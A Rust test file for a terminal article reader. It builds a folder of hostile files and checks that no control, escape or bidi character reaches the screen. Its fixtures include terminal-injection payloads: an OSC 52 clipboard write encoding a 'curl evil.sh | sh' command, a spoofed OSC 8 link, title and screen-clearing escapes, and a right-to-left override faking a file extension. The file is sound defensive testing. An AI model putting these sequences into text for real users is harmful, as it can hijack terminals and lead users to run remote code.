//! A folder of hostile inputs, built at test time: binary data, NUL bytes,
//! invalid UTF-8, empty and oversized files, a 200,000-char line, escape
//! sequences (CSI, OSC 52, OSC 8), BEL, C1 controls, bidi overrides,
//! zero-width and combining characters, wide text, CR/CRLF, a BOM, hostile
//! file names, a symlink loop, an unreadable file, 10,000 files in one
//! folder and nesting deeper than the limit.
//!
//! The reader must load what it can, report the rest with a reason, never
//! panic, and never let a control character from a file reach the
//! terminal (every cell of the rendered buffer is checked).

mod common;
#[path = "common/tmux.rs"]
mod tmux;

use common::*;
use liseuse::app;
use liseuse::keymap::Keymap;
use liseuse::model::corpus::{Limits, SkipReason, Skipped};
use liseuse::theme::Theme;
use ratatui::Terminal;
use ratatui::backend::TestBackend;
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::time::Instant;

const MIB: usize = 1024 * 1024;

/// Escape sequences and controls, as an attacker would put them in an
/// article to clear the screen, write the clipboard or fake a link.
const ESCAPES: &str = "Titre \u{1b}[2J\u{1b}[H piégé\n\n\
    Effacer l'écran : \u{1b}[2J\u{1b}[3J\u{1b}c fin.\n\
    Presse-papiers : \u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7} fin.\n\
    Lien : \u{1b}]8;;https://evil.example/\u{1b}\\cliquez ici\u{1b}]8;;\u{1b}\\ fin.\n\
    Titre de fenêtre : \u{1b}]0;pwned\u{7} et \u{1b}]2;pwned\u{1b}\\ fin.\n\
    Cloche \u{7}\u{7}\u{7}, retour arrière \u{8}\u{8}, tab\tulation, DEL \u{7f}, VT \u{b} FF \u{c}.\n\
    Couleur \u{1b}[31mrouge\u{1b}[0m et curseur \u{1b}[10;10H\u{1b}[6n\u{1b}[?1049l fin.\n\
    DCS \u{1b}P1$r\u{1b}\\ APC \u{1b}_x\u{1b}\\ PM \u{1b}^x\u{1b}\\ SOS \u{1b}Xx\u{1b}\\ fin.\n";

fn c1_text() -> String {
    // every C1 control as a char (U+0080–U+009F, UTF-8 encoded)
    let c1: String = ('\u{80}'..='\u{9f}').collect();
    format!(
        "Contrôles C1\n\nTous les C1 : [{c1}] fin.\n\
         CSI 8 bits : \u{9b}2J et OSC 8 bits : \u{9d}52;c;eA==\u{9c} fin.\n\
         NEL\u{85}au milieu.\n"
    )
}

const BIDI: &str = "Bidi et invisibles\n\n\
    Fichier : \u{202e}txt.exe\u{202c} (override), \u{202d}LRO\u{202c}, \u{202a}LRE\u{202c}, \u{202b}RLE\u{202c}.\n\
    Isolats : \u{2066}a\u{2069} \u{2067}b\u{2069} \u{2068}c\u{2069}, marques \u{200e}\u{200f}\u{61c}.\n\
    Largeur nulle : a\u{200b}b\u{200c}c\u{200d}d\u{2060}e\u{feff}f soft\u{ad}hyphen.\n\
    Combinants : e\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308} Z\u{335}\u{336}\u{337}\u{338}algo\u{489}\u{489}.\n\
    Séparateurs : ligne\u{2028}paragraphe\u{2029}fin, espace fine\u{202f}: ok.\n";

const WIDE: &str = "表意文字と絵文字 🎉\n\n\
    日本語の文章です。中文字符测试。한국어 텍스트입니다。全角ＡＢＣ。\n\
    Émojis : 😀👍🏽👨‍👩‍👧‍👦🏳️‍🌈🇫🇷 ❤️ ⌚ fin.\n\
    Mélange : Paris東京Москва😀Αθήνα القاهرة עברית fin.\n";

/// The files of the hostile folder: (relative path, bytes).
fn hostile_files() -> Vec<(String, Vec<u8>)> {
    let mut f: Vec<(String, Vec<u8>)> = Vec::new();
    let mut add = |p: &str, b: Vec<u8>| f.push((p.to_string(), b));
    let mut bin = Vec::with_capacity(4096);
    let mut x: u32 = 12345;
    for _ in 0..4096 {
        x = x.wrapping_mul(1_103_515_245).wrapping_add(12345);
        bin.push((x >> 16) as u8);
    }
    bin[100] = 0;
    add("binary.txt", bin);
    add(
        "nul.txt",
        b"Titre\n\nDu texte\0avec un NUL au milieu.\n".to_vec(),
    );
    add(
        "invalid_utf8.txt",
        b"Caf\xe9 invalide\n\nOctets \xff\xfe\xc3 et CSI 8 bits brut \x9b2J fin.\n".to_vec(),
    );
    add("empty.txt", Vec::new());
    add("escapes.txt", ESCAPES.as_bytes().to_vec());
    add("c1.txt", c1_text().into_bytes());
    add("bidi.txt", BIDI.as_bytes().to_vec());
    add("wide.txt", WIDE.as_bytes().to_vec());
    add(
        "crlf.txt",
        b"Fins de ligne CRLF\r\n\r\nPremier paragraphe.\r\nDeuxi\xc3\xa8me.\r\n".to_vec(),
    );
    add(
        "cr.txt",
        b"Fins de ligne CR seules\r\rPremier.\rDeuxi\xc3\xa8me.\rTroisi\xc3\xa8me.\r".to_vec(),
    );
    add(
        "bom.txt",
        "\u{feff}Un BOM en tête\n\nLe texte suit.\n"
            .as_bytes()
            .to_vec(),
    );
    // one line of 200,000 chars: words, then a long run without spaces
    let mut long = String::from("Une ligne très longue\n\n");
    while long.chars().count() < 100_000 {
        long.push_str("mot à mot « cité » : ");
    }
    while long.chars().count() < 200_023 {
        long.push('x');
    }
    add("long_line.txt", long.into_bytes());
    // hostile file names: they show in the metadata line
    add(
        "name_\u{1b}]52;c;ZXZpbA==\u{7}_\u{1b}[2J_\u{202e}gpj.txt",
        b"Un nom de fichier hostile\n\nLe nom contient des s\xc3\xa9quences.\n".to_vec(),
    );
    // nesting: one article at level 10, one below the 64-level limit
    let mut deep = String::from("deep");
    for i in 0..70 {
        deep.push_str(&format!("/d{i}"));
        if i == 9 {
            add(
                &format!("{deep}/level10.txt"),
                b"Article a dix niveaux\n\nTrouve.\n".to_vec(),
            );
        }
    }
    add(
        &format!("{deep}/level71.txt"),
        b"Trop profond\n\nJamais lu.\n".to_vec(),
    );
    f
}

struct Folder {
    _dir: tempfile::TempDir,
    root: PathBuf,
    /// chmod 000 does not stop root from reading: the check is skipped then.
    unreadable_enforced: bool,
}

/// Builds the hostile folder (without the 10,000 files: see
/// [`many_files`]) and the 50 MB file.
fn hostile_folder() -> Folder {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("hostile");
    fs::create_dir(&root).unwrap();
    for (p, b) in hostile_files() {
        let path = root.join(p);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, b).unwrap();
    }
    // a 50 MB article of real text (not sparse: the cap must be checked
    // before anything is decoded)
    let line = "Un article énorme qui ne doit jamais être chargé en mémoire.\n";
    let mut huge = String::with_capacity(50 * MIB + line.len());
    while huge.len() < 50 * MIB {
        huge.push_str(line);
    }
    fs::write(root.join("huge.txt"), huge).unwrap();
    // symlink loop: loop/self -> .. (and a link to itself)
    fs::create_dir(root.join("loop")).unwrap();
    symlink("..", root.join("loop/up")).unwrap();
    symlink("selfref.txt", root.join("loop/selfref.txt")).unwrap();
    symlink("/nonexistent/liseuse", root.join("dangling.txt")).unwrap();
    // things that are not regular files but are named like articles
    symlink("/dev/zero", root.join("zero.txt")).unwrap();
    fs::create_dir(root.join("folder.txt")).unwrap();
    let _ = std::process::Command::new("mkfifo")
        .arg(root.join("fifo.txt"))
        .status();
    // unreadable
    let unreadable = root.join("unreadable.txt");
    fs::write(&unreadable, "Secret\n\nIllisible.\n").unwrap();
    fs::set_permissions(&unreadable, fs::Permissions::from_mode(0o000)).unwrap();
    let unreadable_enforced = fs::File::open(&unreadable).is_err();
    if !unreadable_enforced {
        eprintln!(
            "note: running as root (chmod 000 is still readable): the unreadable-file check is skipped"
        );
    }
    Folder {
        _dir: dir,
        root,
        unreadable_enforced,
    }
}

/// 10,000 small articles in one folder.
fn many_files(root: &Path) {
    fs::create_dir_all(root).unwrap();
    for i in 0..10_000 {
        fs::write(
            root.join(format!("{i:05}.txt")),
            format!("Article {i}\n\nUn texte court numéro {i}.\n"),
        )
        .unwrap();
    }
}

fn reason_of<'a>(skipped: &'a [Skipped], name: &str) -> Option<&'a SkipReason> {
    skipped
        .iter()
        .find(|s| s.path.to_string_lossy().ends_with(name))
        .map(|s| &s.reason)
}

/// A char the terminal would interpret, or that reorders or hides text.
fn dangerous(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{200E}' | '\u{200F}'
            | '\u{061C}' | '\u{200B}'..='\u{200D}' | '\u{2060}'..='\u{2064}' | '\u{FEFF}'
            | '\u{2028}' | '\u{2029}')
}

/// Fails if any cell of the screen holds a dangerous char.
fn check_buffer(term: &Terminal<TestBackend>, what: &str) {
    let buf = term.backend().buffer();
    for y in 0..buf.area.height {
        for x in 0..buf.area.width {
            let sym = buf[(x, y)].symbol();
            assert!(
                !sym.chars().any(dangerous),
                "{what}: cell ({x},{y}) holds {sym:?}\n{}",
                screen(term)
            );
        }
    }
}

#[test]
fn loads_what_it_can_and_reports_the_rest() {
    let f = hostile_folder();
    let t0 = Instant::now();
    let (articles, skipped) =
        liseuse::model::loader::load_articles(std::slice::from_ref(&f.root), Limits::default());
    eprintln!(
        "loaded {} articles, skipped {} in {:?}",
        articles.len(),
        skipped.len(),
        t0.elapsed()
    );
    for s in &skipped {
        eprintln!("  skipped {}: {}", s.path.display(), s.reason);
    }
    let rels: Vec<&str> = articles.iter().map(|a| a.rel.as_str()).collect();
    // skipped, with their reasons
    assert_eq!(reason_of(&skipped, "binary.txt"), Some(&SkipReason::Binary));
    assert_eq!(reason_of(&skipped, "nul.txt"), Some(&SkipReason::Binary));
    match reason_of(&skipped, "huge.txt") {
        Some(SkipReason::TooLarge { bytes, limit }) => {
            assert!(*bytes >= 50 * MIB as u64);
            assert_eq!(*limit, 16 * MIB as u64);
            let msg = SkipReason::TooLarge {
                bytes: *bytes,
                limit: *limit,
            }
            .to_string();
            assert_eq!(msg, "too large: 50 MiB (limit 16 MiB)");
        }
        r => panic!("huge.txt: {r:?}"),
    }
    let loop_reason = reason_of(&skipped, "loop/up")
        .map(ToString::to_string)
        .unwrap_or_default();
    assert!(loop_reason.contains("loop"), "loop: {loop_reason:?}");
    assert!(
        reason_of(&skipped, "selfref.txt").is_some(),
        "a link to itself is reported"
    );
    assert!(
        reason_of(&skipped, "dangling.txt").is_some(),
        "a dangling link is reported"
    );
    if f.unreadable_enforced {
        match reason_of(&skipped, "unreadable.txt") {
            Some(SkipReason::Unreadable(e)) => assert!(e.contains("ermission"), "{e}"),
            r => panic!("unreadable.txt: {r:?}"),
        }
    } else {
        assert!(rels.contains(&"unreadable.txt"), "root reads it: {rels:?}");
    }
    match skipped
        .iter()
        .find(|s| matches!(s.reason, SkipReason::TooDeep { .. }))
    {
        Some(s) => {
            let depth = s.path.strip_prefix(&f.root).unwrap().components().count();
            assert_eq!(
                depth,
                64,
                "the first folder not entered: {}",
                s.path.display()
            );
            assert_eq!(
                s.reason.to_string(),
                "folder not entered: deeper than 64 levels"
            );
        }
        None => panic!("nesting beyond 64 levels is reported: {skipped:?}"),
    }
    // loaded
    for name in [
        "invalid_utf8.txt",
        "empty.txt",
        "escapes.txt",
        "c1.txt",
        "bidi.txt",
        "wide.txt",
        "crlf.txt",
        "cr.txt",
        "bom.txt",
        "long_line.txt",
    ] {
        assert!(rels.contains(&name), "{name} is loaded: {rels:?}");
    }
    assert!(
        rels.iter().any(|r| r.ends_with("d9/level10.txt")),
        "{rels:?}"
    );
    assert!(
        !rels.iter().any(|r| r.ends_with("level71.txt")),
        "beyond the limit: {rels:?}"
    );
    for name in ["zero.txt", "folder.txt", "fifo.txt"] {
        assert!(!rels.contains(&name), "{name} is not a regular file");
    }
    let art = |n: &str| articles.iter().find(|a| a.rel == n).unwrap();
    assert!(art("invalid_utf8.txt").lossy);
    assert!(art("invalid_utf8.txt").text.contains('\u{FFFD}'));
    assert!(!art("escapes.txt").lossy);
    assert_eq!(art("bom.txt").meta.title, "Un BOM en tête");
    assert!(!art("bom.txt").text.starts_with('\u{feff}'));
    assert_eq!(art("empty.txt").text, "");
    assert_eq!(art("crlf.txt").paragraphs.len(), 3);
    // lone CRs do not split paragraphs (the text has no line feed): one
    // paragraph, the CRs drawn as spaces
    assert_eq!(art("cr.txt").paragraphs.len(), 1);
    assert_eq!(art("long_line.txt").text.chars().count(), 200_023);
    // article text is kept exactly as decoded (offsets point into it)
    assert_eq!(art("escapes.txt").text, ESCAPES);
}

#[test]
fn size_cap_is_exact_and_configurable() {
    let dir = tempfile::tempdir().unwrap();
    let body = |n: usize| {
        let mut s = "Titre\n\n".to_string();
        s.push_str(&"a".repeat(n - s.len()));
        s
    };
    fs::write(dir.path().join("at.txt"), body(MIB)).unwrap();
    fs::write(dir.path().join("over.txt"), body(MIB + 1)).unwrap();
    let limits = Limits {
        max_file_bytes: MIB as u64,
        ..Limits::default()
    };
    let (articles, skipped) =
        liseuse::model::loader::load_articles(&[dir.path().to_path_buf()], limits);
    assert_eq!(articles.len(), 1, "{skipped:?}");
    assert_eq!(articles[0].rel, "at.txt");
    assert_eq!(
        reason_of(&skipped, "over.txt"),
        Some(&SkipReason::TooLarge {
            bytes: MIB as u64 + 1,
            limit: MIB as u64
        })
    );
    // the command-line option maps to the same limit
    let args = liseuse::cli::CorpusArgs {
        paths: vec![],
        max_file_mib: 1,
        no_cache: false,
    };
    assert_eq!(args.limits().max_file_bytes, MIB as u64);
}

#[test]
fn ten_thousand_files_and_the_file_cap() {
    let dir = tempfile::tempdir().unwrap();
    let many = dir.path().join("many");
    many_files(&many);
    let t0 = Instant::now();
    let app = app_on(vec![many.clone()], Limits::default());
    eprintln!("10,000 files loaded by the app in {:?}", t0.elapsed());
    assert_eq!(app.state.doc.articles.len(), 10_000);
    assert!(app.state.doc.skipped.is_empty());
    // the cap: the first N are read, the rest reported once
    let limits = Limits {
        max_files: 1_000,
        ..Limits::default()
    };
    let (articles, skipped) =
        liseuse::model::loader::load_articles(std::slice::from_ref(&many), limits);
    assert_eq!(articles.len(), 1_000);
    assert_eq!(skipped.len(), 1, "{skipped:?}");
    assert_eq!(
        skipped[0].reason.to_string(),
        "more than 1000 articles: the rest were not read"
    );
}

/// The articles of the app in list order, opened one by one with the real
/// keys, scrolled, at several sizes: every cell is checked.
#[test]
fn no_control_character_reaches_the_screen() {
    let f = hostile_folder();
    let mut app = app_on(vec![f.root.clone()], Limits::default());
    let n = app.state.doc.visible.len();
    assert!(n >= 12, "{n} articles");
    assert!(
        !app.state.doc.skipped.is_empty(),
        "the app has the skipped list too"
    );
    let mut term = terminal(120, 40);
    app.draw(&mut term).unwrap();
    let s = screen(&term);
    assert!(
        s.contains(&format!("{} skipped", app.state.doc.skipped.len())),
        "the status line counts the skipped files:\n{s}"
    );
    check_buffer(&term, "first screen");
    let mut seen_escapes = false;
    for i in 0..n {
        for (w, h) in [(120u16, 40u16), (50, 10), (203, 61)] {
            let mut term = terminal(w, h);
            let keys = format!("<Esc><Esc><Esc>g{}<Enter>", "j".repeat(i));
            play(&mut app, &mut term, &keys);
            app.draw(&mut term).unwrap();
            let open = app.state.view.reader.open.expect("an article is open");
            assert_eq!(open, app.state.doc.visible[i], "article {i} is open");
            let rel = app.state.doc.article(open).rel.clone();
            let what = format!("{rel:?} at {w}x{h}");
            check_buffer(&term, &what);
            if rel == "escapes.txt" && w == 120 {
                let s = screen(&term);
                assert!(
                    s.contains("\u{FFFD}[2J"),
                    "controls are shown as a visible replacement:\n{s}"
                );
                seen_escapes = true;
            }
            // scroll, move the reading cursor, select, open the help and
            // the annotation list, on every article
            for k in [
                "<C-d>", "G", "<PageUp>", "<Tab>", "w", "w", "$", "v", "e", "e", "0", "}", "G",
                "<Esc>", "<S-Tab>", "<Tab>", "<Tab>", "j", "<S-Tab>", "<S-Tab>", "?", "<Esc>", "A",
                "<Esc>",
            ] {
                play(&mut app, &mut term, k);
                check_buffer(&term, &format!("{what} after {k}"));
            }
        }
    }
    assert!(seen_escapes, "escapes.txt was opened");
    // a filter typed with hostile characters (as a paste would bring them)
    let mut term = terminal(100, 30);
    play(&mut app, &mut term, "<Esc>/");
    liseuse::update::filter_paste(&mut app.state, "\u{1b}]52;c;eA==\u{7}\u{202e}x");
    app.draw(&mut term).unwrap();
    check_buffer(&term, "hostile filter text");
}

#[test]
fn a_long_line_wraps_in_linear_time() {
    use liseuse::ui::wrap::wrap;
    let make = |n: usize| {
        let mut s = String::new();
        while s.len() < n {
            s.push_str("mot à mot « cité » : ");
        }
        s.push_str(&"x".repeat(n / 2));
        s
    };
    // the fastest of 7 runs: the machine may be busy with other tests
    let time = |s: &str| {
        (0..7)
            .map(|_| {
                let t0 = Instant::now();
                let lines = wrap(s, 0, s.len(), 37);
                let d = t0.elapsed();
                assert!(
                    lines.len() > s.chars().count() / 40,
                    "{} lines",
                    lines.len()
                );
                d
            })
            .min()
            .unwrap()
    };
    let small = make(200_000);
    let large = make(800_000);
    let (t1, t4) = (time(&small), time(&large));
    let ratio = t4.as_secs_f64() / t1.as_secs_f64().max(1e-6);
    eprintln!("wrap: {t1:?} -> {t4:?} for 4x the text (x{ratio:.1})");
    assert!(ratio < 12.0, "wrapping is not linear: {t1:?} -> {t4:?}");
    // and the reader on it: open, jump to the end, resize repeatedly
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("long.txt"), format!("Titre\n\n{small}\n")).unwrap();
    let mut app = app_on(vec![dir.path().to_path_buf()], Limits::default());
    let t0 = Instant::now();
    for w in [80u16, 120, 81, 200, 60] {
        let mut term = terminal(w, 30);
        play(&mut app, &mut term, "<Enter><Tab>G$bw}{0");
        check_buffer(&term, &format!("long line at width {w}"));
    }
    eprintln!("long line: open and move at 5 widths in {:?}", t0.elapsed());
}

/// The real binary in tmux on the hostile folder: every article opened and
/// scrolled; the pane never holds an escape sequence other than SGR, and
/// tmux saw no bell, no clipboard write (OSC 52) and no title change.
#[test]
fn tmux_sees_only_colours() {
    let f = hostile_folder();
    let n = liseuse::model::loader::load_articles(std::slice::from_ref(&f.root), Limits::default())
        .0
        .len();
    let sh = tmux::Shell::start("hostile", 120, 40);
    sh.set_option("set-clipboard", "on");
    let title0 = sh.var("pane_title");
    let notes = sh.dir.path().join("notes.toml");
    let args = format!("--annotations {} {}", notes.display(), f.root.display());
    sh.line(&tmux::command_line("", &args, &sh.pidfile()));
    sh.wait_for(&format!("{n} articles"), 30);
    let check = |what: &str| {
        let s = sh.capture(true);
        let bad = tmux::non_sgr_escapes(&s);
        assert!(bad.is_empty(), "{what}: escapes {bad:?} in\n{s}");
        let plain = sh.capture(false);
        assert!(
            plain.contains("Articles") && plain.contains("Reader") && plain.contains("Entities"),
            "{what}: the screen was not cleared or moved:\n{plain}"
        );
    };
    check("list");
    for i in 0..n {
        // Escape alone in each send: followed at once by a key it would be Alt
        sh.send(&["Escape"]);
        sh.send(&["Escape"]);
        let mut keys = vec!["g"];
        keys.extend(std::iter::repeat_n("j", i));
        keys.push("Enter");
        sh.send(&keys);
        check(&format!("article {i}"));
        sh.send(&["Tab", "C-d", "w", "w", "v", "e"]);
        check(&format!("article {i}, scrolled"));
        sh.send(&["G", "$"]);
        check(&format!("article {i}, at the end"));
    }
    assert_eq!(
        sh.var("window_bell_flag"),
        "0",
        "a BEL reached the terminal"
    );
    assert_eq!(
        sh.buffers(),
        "",
        "an OSC 52 clipboard write reached the terminal"
    );
    assert_eq!(
        sh.var("pane_title"),
        title0,
        "an OSC title reached the terminal"
    );
    sh.send(&["Escape"]);
    sh.send(&["Escape"]);
    sh.send(&["q"]);
    let s = sh.wait_for(":END", 15);
    assert!(s.contains("RESULT:0:icanon echo :END"), "{s}");
}

/// A 100 MB annotation file is not read (it would take about a gigabyte
/// to parse) and never written: the reader says so, new annotations go to
/// the recovery file, and the file is left exactly as it was.
#[test]
fn a_huge_annotation_file_is_left_alone() {
    use std::io::Write;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("notes.toml");
    let entry = "[[annotation]]\nid = \"0123456789abcdef\"\narticle = \"x.txt\"\n\
                 quote = \"q\"\nstart = 0\nend = 1\nnote = \"\"\n\n";
    {
        let mut w = std::io::BufWriter::new(fs::File::create(&path).unwrap());
        w.write_all(b"schema_version = 1\n\n").unwrap();
        let mut n = 0;
        while n < 100 * MIB {
            w.write_all(entry.as_bytes()).unwrap();
            n += entry.len();
        }
    }
    let before = fs::metadata(&path).unwrap();
    let t0 = Instant::now();
    let mut app = app::build_with(
        Vec::new(),
        Limits::default(),
        Theme::fallback(false),
        Keymap::default(),
        false,
        Some(path.clone()),
    );
    eprintln!(
        "opened next to a 100 MB annotation file in {:?}",
        t0.elapsed()
    );
    let msg = app
        .state
        .view
        .status
        .message
        .clone()
        .expect("a message")
        .text;
    assert!(
        msg.contains("too large (100 MiB, limit 64 MiB)") && msg.contains("recovered"),
        "{msg}"
    );
    let ro = app
        .store
        .as_ref()
        .unwrap()
        .read_only()
        .cloned()
        .expect("read-only");
    // annotate: saved to the recovery file, not to the huge one
    let mut term = terminal(120, 40);
    play(&mut app, &mut term, "<Enter>h");
    assert_eq!(app.state.notes.len(), 1);
    let rec = fs::read_to_string(&ro.recovery).expect("the recovery file");
    assert!(rec.contains("[[annotation]]"), "{rec}");
    let after = fs::metadata(&path).unwrap();
    assert_eq!(after.len(), before.len());
    assert_eq!(after.modified().unwrap(), before.modified().unwrap());
    assert!(!app.store.as_ref().unwrap().is_pending());
}

/// The commands that print write to a terminal too: their output (and the
/// skipped list on stderr) holds no escape, control or bidi character from
/// the files, and every skipped file is named with its reason.
#[test]
fn printing_commands_stay_clean() {
    let f = hostile_folder();
    let root = f.root.display().to_string();
    let bin = env!("CARGO_BIN_EXE_liseuse");
    for args in [
        vec!["filter", "a", &root],
        vec!["entities", &root],
        vec!["annotations", &root],
    ] {
        let out = std::process::Command::new(bin)
            .env(
                "XDG_CACHE_HOME",
                std::path::Path::new(env!("CARGO_TARGET_TMPDIR"))
                    .join(format!("test-cache-{}", std::process::id())),
            )
            .args(&args)
            .output()
            .unwrap();
        assert!(out.status.success(), "{args:?}: {out:?}");
        for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
            let text = String::from_utf8_lossy(bytes);
            let bad: Vec<char> = text
                .chars()
                .filter(|&c| c != '\n' && dangerous(c))
                .collect();
            assert!(bad.is_empty(), "{args:?} {stream}: {bad:?}\n{text}");
        }
        let err = String::from_utf8_lossy(&out.stderr);
        for expected in [
            "binary.txt: binary data (NUL bytes)",
            "huge.txt: too large: 50 MiB (limit 16 MiB)",
            "folder not entered: deeper than 64 levels",
            "symbolic link loop",
        ] {
            assert!(
                err.contains(expected),
                "{args:?}: no {expected:?} in\n{err}"
            );
        }
    }
}

/// Notes come from the annotation file, which may travel with a corpus:
/// a note holding escape sequences and bidi overrides, opened in the
/// annotation list and in the editor, never reaches the terminal raw.
#[test]
fn hostile_notes_from_the_annotation_file() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("notes.toml");
    let build = || {
        app::build_with(
            Vec::new(),
            Limits::default(),
            Theme::fallback(false),
            Keymap::default(),
            false,
            Some(path.clone()),
        )
    };
    let mut app = build();
    let mut term = terminal(120, 40);
    play(
        &mut app,
        &mut term,
        "<Enter>wveaPLACEHOLDER<Tab>tagholder<C-s>",
    );
    assert_eq!(app.state.notes.len(), 1);
    drop(app);
    let toml = fs::read_to_string(&path).unwrap();
    assert!(
        toml.contains("PLACEHOLDER") && toml.contains("tagholder"),
        "{toml}"
    );
    let evil = r#"\u001b]52;c;ZXZpbA==\u0007\u001b[2J\u202eevil\u200b\u0085"#;
    fs::write(
        &path,
        toml.replace("PLACEHOLDER", evil)
            .replace("tagholder", &format!("tag{evil}")),
    )
    .unwrap();
    let mut app = build();
    assert!(app.state.view.status.message.is_none(), "the file parses");
    let note = &app.state.notes.sorted()[0].note;
    assert!(
        note.contains('\u{1b}') && note.contains('\u{202e}'),
        "{note:?}"
    );
    for (w, h) in [(120u16, 40u16), (60, 12)] {
        let mut term = terminal(w, h);
        play(&mut app, &mut term, "A");
        check_buffer(&term, &format!("annotation list at {w}x{h}"));
        play(&mut app, &mut term, "e");
        assert!(
            app.state.view.editor.current.is_some(),
            "the editor is open"
        );
        check_buffer(&term, &format!("note editor at {w}x{h}"));
        play(&mut app, &mut term, "<End>x<Tab>");
        check_buffer(&term, &format!("note editor, tags field, at {w}x{h}"));
        play(&mut app, &mut term, "<Esc><Esc><Esc>");
    }
}
